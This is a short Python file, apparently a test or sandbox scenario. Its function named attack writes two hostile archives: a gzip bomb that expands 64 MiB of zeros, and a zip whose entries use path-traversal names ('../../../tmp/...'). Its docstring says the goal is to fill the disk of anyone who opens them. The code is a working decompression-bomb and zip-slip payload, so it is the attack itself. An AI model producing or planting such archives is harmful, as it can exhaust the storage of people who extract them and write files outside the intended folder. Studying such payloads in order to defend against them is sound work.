"""Leave archives that grow a thousandfold: whoever opens them fills a disk.

Held by the host, which opens no archive: bytes are kept as they are.
"""

import gzip
import io
import zipfile


def attack():
    with open("bomb.gz", "wb") as file:
        file.write(gzip.compress(bytes(2**26)))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"../../../tmp/{number}", bytes(2**22))
    with open("bomb.zip", "wb") as file:
        file.write(inner.getvalue())
